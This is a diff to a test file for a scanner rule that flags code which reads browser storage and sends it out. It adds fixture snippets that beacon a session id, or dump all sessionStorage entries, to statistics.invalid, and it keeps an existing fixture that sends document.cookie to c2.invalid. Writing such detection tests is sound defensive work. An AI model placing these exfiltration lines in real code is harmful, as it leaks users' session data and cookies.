@@ -4,6 +4,20 @@ import { readsBrowserStorageAndSends } from './reads-browser-storage-and-sends.t
 examine(readsBrowserStorageAndSends, {
   speaks: [
     {
+      when: 'statistics keep an identifier of a visit under a name that ends in their own word',
+      files: {
+        'index.js': `const key = globalThis.trackingId() + '_sid', kept = sessionStorage[key] || Date.now(); sessionStorage[key] = kept; navigator.sendBeacon('https://statistics.invalid/collect?sid=' + kept)`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'every entry is taken by its name',
+      files: {
+        'index.js': `const all = {}; for (const name in sessionStorage) all['s_' + name] = sessionStorage[name]; navigator.sendBeacon('https://statistics.invalid/collect', JSON.stringify(all))`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'cookies go into an address at import',
       files: { 'index.js': `fetch('https://c2.invalid/?c=' + document.cookie)` },
       weight: 'strong',
